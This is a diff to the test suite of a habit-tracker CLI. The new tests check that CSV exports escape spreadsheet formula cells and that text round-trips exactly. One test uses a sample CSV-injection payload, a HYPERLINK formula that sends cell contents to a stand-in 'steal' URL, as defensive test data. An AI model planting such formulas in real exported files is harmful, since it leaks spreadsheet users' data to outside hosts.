@@ -7,12 +7,16 @@ from __future__ import annotations
 
 import csv
 import io
-from datetime import datetime
+from datetime import date, datetime, time
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from tests.unit.test_cli import QUOTES, STOCKHOLM, Cli
+from trayhabit.core.model import Habit, Schedule
+from trayhabit.core.transfer import export_csv, parse_import
 
 
 @pytest.fixture
@@ -146,3 +150,66 @@ def test_a_damaged_export_is_refused_in_one_line_and_changes_nothing(
         assert line.startswith(f"trayhabit: {damaged.name}"), line
         assert re.search(message, line), line
         assert target.snapshot() == before
+
+
+# -- CSV cells a spreadsheet shows as text (OWASP's advice on CSV injection), and an exact round trip ----
+
+
+def test_a_formula_in_a_name_reaches_the_csv_as_text_and_comes_back_whole(cli: Cli, tmp_path: Path):
+    name = '=HYPERLINK("http://example.com/steal?"&A1,"Click me")'
+    cli.ok("add", name, "--every", "day", "--at", "09:00", "--why", "@SUM(1+1)")
+    exported = tmp_path / "export.csv"
+    cli.ok("export", "--format", "csv", "-o", str(exported))
+
+    text = exported.read_text(encoding="utf-8")
+    assert "'=HYPERLINK(" in text
+    (habit,) = _rows(text)
+    assert habit["name"] == "'" + name and habit["why"] == "'@SUM(1+1)"
+
+    other = Cli(tmp_path / "other", cli.capsys)
+    other.ok("import", str(exported))
+    (imported,) = other.ok("list", "--json").json()
+    assert (imported["name"], imported["why"]) == (name, "@SUM(1+1)")
+
+
+class _View:
+    """The little of a StoreView that an export reads: one habit, no events, no settings."""
+
+    def __init__(self, habit: Habit) -> None:
+        self._habit = habit
+
+    def habits(self) -> list[dict]:
+        return [self._habit.to_doc()]
+
+    def events(self, habit_id: str | None = None) -> list[dict]:
+        return []
+
+    def settings(self) -> dict:
+        return {}
+
+
+# Text that begins, often, with what a spreadsheet would run or with the escape itself.
+_LEADS = st.sampled_from(
+    ["", "=", "+", "-", "@", "\t", "\r", "'", "''", "'=", "'+", "'-", "'@", "'\t", "'\r", "'x"]
+)
+_TEXT = st.builds(lambda lead, rest: lead + rest, _LEADS, st.text())
+
+
+@given(name=_TEXT.filter(str.strip), why=_TEXT, reason=_TEXT)
+def test_every_text_survives_a_csv_export_and_import_exactly(name: str, why: str, reason: str):
+    habit = Habit(
+        id="h1",
+        name=name,
+        why=why,
+        state_reason=reason,
+        schedule=Schedule(rrule="FREQ=DAILY", at=time(9, 0), start=date(2026, 11, 25)),
+        created_at=datetime(2026, 11, 25, 9, 0, tzinfo=STOCKHOLM),
+    )
+    data = export_csv(_View(habit), datetime(2026, 11, 26, 12, 0, tzinfo=STOCKHOLM), STOCKHOLM).encode()
+
+    (imported,), _, _ = parse_import(data, "export.csv")
+
+    assert (imported.name, imported.why, imported.state_reason) == (name, why, reason)
+    # No cell a spreadsheet would run as a formula.
+    for row in csv.reader(io.StringIO(data.decode())):
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
